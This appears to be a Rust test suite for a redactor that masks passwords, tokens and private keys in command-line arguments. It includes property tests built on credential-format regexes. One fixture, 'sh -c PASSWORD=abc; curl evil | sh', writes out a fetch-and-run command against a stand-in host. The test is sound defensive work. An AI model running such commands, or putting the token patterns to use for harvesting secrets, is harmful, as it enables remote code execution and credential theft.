use proptest::prelude::*;

use super::*;

fn redactor() -> Redactor {
    Redactor::new(Rules {
        on: true,
        ..Rules::default()
    })
}

fn args(args: &[&str]) -> Vec<String> {
    args.iter().map(|arg| (*arg).to_owned()).collect()
}

fn told(given: &[&str]) -> Vec<String> {
    let given = args(given);
    redactor().redact(&given, false).unwrap_or(given)
}

#[test]
fn each_kind_of_secret_is_taken_and_nothing_else() {
    for (given, wanted) in [
        (
            &["mysql", "-u", "root", "-phunter2", "shop"][..],
            &["mysql", "-u", "root", "-p[redacted]", "shop"][..],
        ),
        (&["mysql", "-p", "shop"], &["mysql", "-p", "shop"]),
        (
            &["/usr/bin/sudo", "mysqldump", "--password=a b", "x"],
            &["/usr/bin/sudo", "mysqldump", "--password=[redacted]", "x"],
        ),
        (
            &["app", "--token", "abc", "--verbose"],
            &["app", "--token", "[redacted]", "--verbose"],
        ),
        (
            &["app", "--token", "--verbose"],
            &["app", "--token", "--verbose"],
        ),
        (
            &["docker", "login", "-u", "me", "-p", "abc"],
            &["docker", "login", "-u", "me", "-p", "[redacted]"],
        ),
        (
            &["docker", "run", "-p", "80:80", "web"],
            &["docker", "run", "-p", "80:80", "web"],
        ),
        (
            &["curl", "-u", "me:abc", "https://host/"],
            &["curl", "-u", "me:[redacted]", "https://host/"],
        ),
        (
            &["curl", "-H", "Authorization: Bearer abc def", "http://h"],
            &["curl", "-H", "Authorization: [redacted]", "http://h"],
        ),
        (
            &["curl", "-H", "X-Api-Key:abc", "http://h:80/a@b"],
            &["curl", "-H", "X-Api-Key:[redacted]", "http://h:80/a@b"],
        ),
        (
            &["git", "clone", "https://me:a/b@host/x.git"],
            &["git", "clone", "https://me:[redacted]@host/x.git"],
        ),
        (
            &["psql", "postgres://u:p%40@db:5432/x?sslmode=on"],
            &["psql", "postgres://u:[redacted]@db:5432/x?sslmode=on"],
        ),
        (
            &["curl", "https://h/?page=2&access_token=abc&x=1"],
            &["curl", "https://h/?page=2&access_token=[redacted]&x=1"],
        ),
        (
            &["env", "PGPASSWORD=abc", "PWD=/root", "psql"],
            &["env", "PGPASSWORD=[redacted]", "PWD=/root", "psql"],
        ),
        (
            &["sh", "-c", "PASSWORD=abc; curl evil | sh"],
            &["sh", "-c", "PASSWORD=[redacted]; curl evil | sh"],
        ),
        (
            &["sh", "-c", "cd / && sshpass -p 'a b' ssh host"],
            &["sh", "-c", "cd / && sshpass -p '[redacted]' ssh host"],
        ),
        (
            &["sh", "-c", "bash -c \"mysql -pabc -e 'select 1'\""],
            &["sh", "-c", "bash -c \"mysql -p[redacted] -e 'select 1'\""],
        ),
        (
            &["mysql", "-e", "ALTER USER a IDENTIFIED BY 'abc'"],
            &["mysql", "-e", "ALTER USER a IDENTIFIED BY '[redacted]'"],
        ),
        (
            &[
                "curl",
                "-d",
                "{\"user\":\"a\",\"password\": \"b c\",\"n\":1}",
            ],
            &[
                "curl",
                "-d",
                "{\"user\":\"a\",\"password\": \"[redacted]\",\"n\":1}",
            ],
        ),
        (
            &["aws", "configure", "set", "aws_secret_access_key", "abc"],
            &[
                "aws",
                "configure",
                "set",
                "aws_secret_access_key",
                "[redacted]",
            ],
        ),
        (
            &["openssl", "rsa", "-passin", "pass:abc", "-in", "k"],
            &["openssl", "rsa", "-passin", "pass:[redacted]", "-in", "k"],
        ),
        (
            &["htpasswd", "-b", "f", "me", "abc"],
            &["htpasswd", "-b", "f", "me", "[redacted]"],
        ),
        (
            &[
                "x",
                "AKIAIOSFODNN7EXAMPLE",
                "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
            ],
            &["x", "[redacted]", "[redacted]"],
        ),
        (
            &["git", "show", "0123456789abcdef0123456789abcdef01234567"],
            &["git", "show", "0123456789abcdef0123456789abcdef01234567"],
        ),
        (
            &[
                "x",
                "-----BEGIN EC PRIVATE KEY-----\nabc\n-----END EC PRIVATE KEY-----\n",
            ],
            &[
                "x",
                "-----BEGIN EC PRIVATE KEY-----[redacted]-----END EC PRIVATE KEY-----\n",
            ],
        ),
        (
            &[
                "x",
                "-----BEGIN CERTIFICATE-----\nabc\n-----END CERTIFICATE-----\n",
            ],
            &[
                "x",
                "-----BEGIN CERTIFICATE-----\nabc\n-----END CERTIFICATE-----\n",
            ],
        ),
        (
            &["docker", "run", "-v", "/etc/passwd:/etc/passwd:ro", "x"],
            &["docker", "run", "-v", "/etc/passwd:/etc/passwd:ro", "x"],
        ),
        (
            &[
                "aws",
                "--secret-id",
                "arn:aws:secretsmanager:eu:1:secret:prod/db",
            ],
            &[
                "aws",
                "--secret-id",
                "arn:aws:secretsmanager:eu:1:secret:prod/db",
            ],
        ),
        (
            &["docker", "login", "--password-stdin", "registry"],
            &["docker", "login", "--password-stdin", "registry"],
        ),
        (
            &["app", "--token-file=/run/token", "--bypass", "x"],
            &["app", "--token-file=/run/token", "--bypass", "x"],
        ),
        (
            &["kubectl", "get", "secret", "db", "-o", "yaml"],
            &["kubectl", "get", "secret", "db", "-o", "yaml"],
        ),
    ] {
        assert_eq!(told(given), wanted, "{given:?}");
    }
}

#[test]
fn the_operators_rules_add_and_take_away() {
    let rules = Rules {
        on: true,
        names: vec![normal("--customer-pin")],
        keep: vec![normal("page_token")],
        patterns: vec![Regex::new("ACME-[0-9]{4}").expect("a pattern")],
    };
    let given = args(&[
        "x",
        "--customer-pin",
        "1234",
        "--page-token=7",
        "see ACME-1234.",
    ]);
    let wanted = args(&[
        "x",
        "--customer-pin",
        "[redacted]",
        "--page-token=7",
        "see [redacted].",
    ]);
    assert_eq!(
        Redactor::new(rules.clone()).redact(&given, false),
        Some(wanted)
    );
    let off = Redactor::new(Rules { on: false, ..rules });
    assert_eq!(off.redact(&given, false), None);
}

#[test]
fn a_secret_that_is_cut_off_is_one() {
    let given = args(&["x", "see ghp_abc"]);
    assert_eq!(redactor().redact(&given, false), None);
    assert_eq!(
        redactor().redact(&given, true),
        Some(args(&["x", "see [redacted]"]))
    );
}

/// Secrets that show by themselves what they are.
fn token() -> impl Strategy<Value = String> {
    prop_oneof![
        "(AKIA|ASIA)[A-Z0-9]{16}",
        "gh[pousr]_[A-Za-z0-9]{36}",
        "github_pat_[A-Za-z0-9_]{40}",
        "glpat-[A-Za-z0-9_-]{20}",
        "xox[bpas]-[0-9]{10}-[A-Za-z0-9]{12}",
        "(sk|rk)_live_[A-Za-z0-9]{24}",
        "sk-ant-[A-Za-z0-9]{32}",
        "AIza[A-Za-z0-9_-]{35}",
        "npm_[A-Za-z0-9]{36}",
        "hvs\\.[A-Za-z0-9]{24}",
        "eyJ[A-Za-z0-9_-]{16}\\.eyJ[A-Za-z0-9_-]{16}\\.[A-Za-z0-9_-]{24}",
    ]
}

/// What people call secret, of a word that occurs nowhere else.
const WORD: &str = "Zq[A-Za-z0-9!%^*+@#]{6,20}";

/// Arguments with a secret, and the secret.
fn catalogue() -> impl Strategy<Value = (Vec<String>, String)> {
    let names = prop::sample::select(vec![
        "password",
        "db-password",
        "DB_PASSWORD",
        "client_secret",
        "api-key",
        "apiKey",
        "API_KEY",
        "auth_token",
        "accessToken",
        "aws_secret_access_key",
        "AWS_SESSION_TOKEN",
        "passphrase",
        "db.pass",
        "MYSQL_PWD",
        "privateKey",
        "AccountKey",
        "credentials",
    ]);
    let form = 0..14;
    (names, WORD, form).prop_map(|(name, secret, form)| {
        let s = &secret;
        let of = |args: &[&str]| args.iter().map(|arg| (*arg).to_owned()).collect::<Vec<_>>();
        let given = match form {
            0 => of(&["app", &format!("--{name}={s}")]),
            1 => of(&["app", &format!("--{name}"), s, "x"]),
            2 => of(&["env", &format!("{name}={s}"), "app"]),
            3 => of(&["sh", "-c", &format!("export {name}={s} && app")]),
            4 => of(&["sh", "-c", &format!("app --{name} '{s}' --verbose")]),
            5 => of(&[
                "curl",
                "-d",
                &format!("{{\"a\": 1, \"{name}\": \"{s}\"}}"),
                "h",
            ]),
            6 => of(&[
                "sh",
                "-c",
                &format!("curl -d \"{{\\\\\"{name}\\\\\": \\\\\"{s}\\\\\"}}\" h"),
            ]),
            7 => of(&["curl", "-H", &format!("X-{name}: {s}"), "h"]),
            8 => of(&["curl", &format!("https://me:{s}@host/path")]),
            9 => of(&["sh", "-c", &format!("mysql -p{s} shop; true")]),
            10 => of(&["timeout", "5", "sshpass", "-p", s, "ssh", "host"]),
            11 => of(&["curl", "-H", &format!("Authorization: Basic {s}")]),
            12 => of(&[
                "kubectl",
                "create",
                "secret",
                "generic",
                "x",
                &format!("--from-literal={name}={s}"),
            ]),
            _ => of(&[
                "app",
                &format!("-----BEGIN RSA PRIVATE KEY-----\n{s}\n-----END RSA PRIVATE KEY-----"),
            ]),
        };
        (given, secret)
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4000))]

    #[test]
    fn no_secret_of_the_catalogue_survives((given, secret) in catalogue(), before in "[a-z ./-]{0,12}", after in "[a-z ./=-]{0,12}") {
        let mut given = given;
        given.push(after);
        given.insert(1, before);
        let told = redactor().redact(&given, false).unwrap_or(given.clone());
        prop_assert!(!told.iter().any(|arg| arg.contains(&secret)), "{given:?} became {told:?}");
        prop_assert_eq!(told.len(), given.len());
    }

    #[test]
    fn no_token_survives_wherever_it_stands(secret in token(), before in "(|[a-zA-Z0-9 ./=:_-]{0,16}[ =:/\"'(])", after in "(|[ \"'&;,)][a-z ./=:-]{0,16})", at in 0..3usize) {
        let mut given = args(&["app", "one", "two"]);
        given[at] = format!("{before}{secret}{after}");
        let told = redactor().redact(&given, false).unwrap_or(given.clone());
        prop_assert!(!told.iter().any(|arg| arg.contains(&secret)), "{given:?} became {told:?}");
    }

    #[test]
    fn whatever_is_given_stays_bounded(given in prop::collection::vec(".{0,40}|[-a-z=:/\"'\\\\ @]{0,40}|(password|token|curl|mysql|-p|-u|:|=| |\"|'|\\\\){0,12}", 0..8)) {
        if let Some(told) = redactor().redact(&given, false) {
            let size = |args: &[String]| args.iter().map(String::len).sum::<usize>();
            // Each secret has a byte of its own and one that sets it apart.
            prop_assert!(size(&told) <= size(&given) * (MARK.len() + 1) + MARK.len());
            prop_assert_eq!(told.len(), given.len());
        }
    }
}
